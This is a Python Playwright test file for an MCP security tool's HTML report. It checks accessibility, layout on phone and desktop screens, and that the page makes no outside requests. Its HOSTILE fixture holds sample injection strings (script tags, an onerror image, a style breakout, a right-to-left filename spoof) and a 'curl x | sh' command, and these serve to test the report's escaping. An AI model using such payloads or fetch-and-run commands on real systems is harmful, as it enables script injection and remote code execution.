"""The page of `assess --format html` in Chromium, with a phone's and a desktop's screen."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal, NamedTuple

import pytest
from playwright.sync_api import Browser, Page, Request, expect, sync_playwright

from pipeguard.assess.assessing import Assessment, assess, report
from pipeguard.version import VERSION
from tests.assess.places import SECRET, Entry, machine, write_config
from tests.tools import CHROMIUM, npm_modules

STANDARDS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
RUN = {"runOnly": STANDARDS, "resultTypes": ["violations"]}  # not the nodes that pass, too
TIMEOUT_MS = 60_000
EDGE_PX = 1  # borders and rounded positions

pytestmark = pytest.mark.needs("chromium")

Scheme = Literal["light", "dark"]


class Screen(NamedTuple):
    """Size in CSS pixels, and whether it is a phone's."""

    width: int
    height: int
    is_phone: bool


SCREENS = {"phone": Screen(390, 844, is_phone=True), "desk": Screen(1280, 900, is_phone=False)}
USUAL: dict[str, Entry] = {
    "weather": {"command": "npx", "args": ["-y", "@example/weather"], "env": {"API_KEY": SECRET}},
    "filesystem": {"command": "npx", "args": ["-y", "mcp-filesystem@1.2.3", "/home/ada"]},
    "github": {"url": "https://api.example.com/mcp"},
    "fetch": {"command": "pipeguard", "args": ["wrap", "--name", "fetch", "--", "mcp-fetch"]},
    "time": {
        "command": "pipeguard",
        "args": [
            *("wrap", "--name", "time", "--isolate", "auto", "--write", "/home/ada/notes"),
            *("--connect", "api.example.com", "--", "mcp-time"),
        ],
    },
    "calm": {"command": "pipeguard", "args": ["wrap", "--isolate", "auto", "--", "mcp-calm"]},
    "notes": {"url": f"http://notes.example.com/mcp?key={SECRET}"},
}
LONG = "an-extraordinarily-long-name-" * 40
HOSTILE: dict[str, Entry] = {
    "<script>document.title='owned'</script>": {"command": "sh", "args": ["-c", "curl x | sh"]},
    '"><img src=x onerror="document.title=\'owned\'">': {"url": "http://mcp.example.com/mcp"},
    "</style><style>body{display:none}": {"command": "npx", "args": ["-y", LONG]},
    LONG: {"command": LONG, "env": {"TOKEN": SECRET}},
    "W" * 300: {"url": f"http://{'w' * 60}.example.com/{'W' * 600}"},
    "\u05e9\u05e8\u05ea \u05e7\u05d1\u05e6\u05d9\u05dd (files)": {"command": "npx", "args": ["a"]},
    "\u062e\u0627\u062f\u0645 \u0627\u0644\u0628\u0631\u064a\u062f": {"command": "mcp-mail"},
    "\u202egnp.exe\u2066": {"command": "npx", "args": ["\u202e"]},
    "\u6587\u4ef6" * 40: {"command": "mcp-filesystem"},
    "\ufdfd" * 20: {"command": "mcp-shell"},
    "held": {
        "command": "pipeguard",
        "args": [
            *("wrap", "--isolate", "auto", "--write", LONG, "--read", "\u6587\u4ef6" * 40),
            *("--connect", "<b>x</b>", "--connect", "c", "--connect", "d", "--", "srv"),
        ],
    },
}

# What is assessed, the scheme and the screen: each two of them meet.
SHOWN = [("usual", "light", "phone"), ("hostile", "dark", "desk"), ("nothing", "dark", "phone")]
# Boxes whose text leaves them. One letter that is as wide as a sentence is cut off by its box.
OUTSIDE = """edge => [...document.querySelectorAll('svg svg')].flatMap(frame => {
  const box = frame.querySelector('rect').getBoundingClientRect();
  const text = frame.querySelector('text').getBoundingClientRect();
  const fits = text.left >= box.left - edge && text.right <= box.right + edge
    && text.top >= box.top - edge && text.bottom <= box.bottom + edge;
  const isWide = frame.textContent.includes('\ufdfd');
  const isCut = isWide && getComputedStyle(frame).overflow == 'hidden';
  return fits || isCut ? [] : [frame.textContent];
})"""


@dataclass
class Seen:
    """A page in a browser, with all the browser's messages."""

    page: Page
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def note(self, request: Request) -> None:
        self.asked.append(request.url)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert CHROMIUM, "on CI the page is looked at: apt-get install chromium"
    with sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, timeout=4 * TIMEOUT_MS)
        yield browser
        browser.close()


@pytest.fixture
def assessment(request: pytest.FixtureRequest, tmp_path: Path) -> Assessment:
    if request.param == "usual":
        write_config(tmp_path / ".codeium/windsurf/mcp_config.json", {"weather": USUAL["weather"]})
    servers = {"usual": USUAL, "hostile": HOSTILE, "nothing": {}}[request.param]
    return assess(machine(tmp_path, servers))


@pytest.fixture
def scheme(request: pytest.FixtureRequest) -> Scheme:
    return "light" if request.param == "light" else "dark"


@pytest.fixture
def seen(
    request: pytest.FixtureRequest,
    browser: Browser,
    assessment: Assessment,
    scheme: Scheme,
    tmp_path: Path,
) -> Iterator[Seen]:
    """Show a report on a screen; a screenshot stays in pytest's folder."""
    file = tmp_path / "report.html"
    file.write_text(report("html", assessment), encoding="utf-8")
    screen = SCREENS[request.param]
    context = browser.new_context(
        viewport={"width": screen.width, "height": screen.height},
        is_mobile=screen.is_phone,
        has_touch=screen.is_phone,
        device_scale_factor=2 if screen.is_phone else 1,
        color_scheme=scheme,
    )
    context.set_default_timeout(TIMEOUT_MS)
    shown = Seen(context.new_page())
    shown.page.on("console", lambda message: shown.said.append(message.text))
    shown.page.on("pageerror", lambda error: shown.said.append(str(error)))
    shown.page.on("request", shown.note)
    shown.page.goto(file.as_uri())
    shown.page.screenshot(path=tmp_path / f"{request.param}-{scheme}.png", full_page=True)
    yield shown
    context.close()


@pytest.mark.parametrize(("assessment", "scheme", "seen"), SHOWN, indirect=True)
def test_a_page_is_for_everybody_and_asks_nobody(seen: Seen, assessment: Assessment) -> None:
    page = seen.page
    assert seen.said == []
    assert seen.asked == [page.url]  # the file itself
    assert page.title() == f"MCP posture: grade {assessment.grade.letter}"

    assert page.viewport_size is not None
    width = page.viewport_size["width"]
    assert page.evaluate("window.innerWidth") == width
    assert page.evaluate("document.scrollingElement.scrollWidth") <= width

    expect(page.get_by_role("img", name=f"Grade {assessment.grade.letter}")).to_be_in_viewport()
    expect(page.get_by_text(f"{assessment.grade.score} of 100.")).to_be_in_viewport()
    expect(page.locator("header time")).to_be_in_viewport()
    expect(page.locator("header")).to_contain_text(f"PipeGuard {VERSION}")
    if assessment.findings:
        first = page.locator("ul.found > li").first
        expect(first.locator(".level")).to_be_in_viewport()
    if assessment.reached:
        order = [page.locator(what).first for what in ("section.check", "table", "svg.drawing")]
        tops = [box["y"] for box in (one.bounding_box() for one in order) if box]
        assert tops == sorted(tops)
        expect(page.locator("svg.drawing")).to_be_visible()
        rows = page.get_by_role("table").get_by_role("row")
        expect(rows).to_have_count(len(assessment.reached) + 1)
        for row in rows.all()[1:]:
            expect(row).to_be_visible()
    assert page.evaluate(OUTSIDE, EDGE_PX) == []
    assert violations(page) == []


def violations(page: Page) -> list[str]:
    """Return axe-core's violations of WCAG 2.2, level AA, and of common best practices."""
    page.wait_for_load_state()  # with its style: a link has its size from it
    page.evaluate((npm_modules() / "axe-core" / "axe.min.js").read_text(encoding="utf-8"))
    told = page.evaluate("options => axe.run(options)", RUN)
    assert told["passes"]
    return [
        f"{found['id']}: {json.dumps([node['html'] for node in found['nodes']])}"
        for found in told["violations"]
    ]


def test_the_checker_finds_what_is_wrong(browser: Browser) -> None:
    page = browser.new_page()
    small = "<button style='width: 9px; height: 9px; padding: 0'></button>" * 2
    pale = "<p style='color: #ccc; background: #fff'>pale</p>"
    page.set_content(f"<html><body>{pale}{small}</body></html>")
    assert {"color-contrast", "html-has-lang", "target-size"} <= {
        one.partition(":")[0] for one in violations(page)
    }
    page.close()
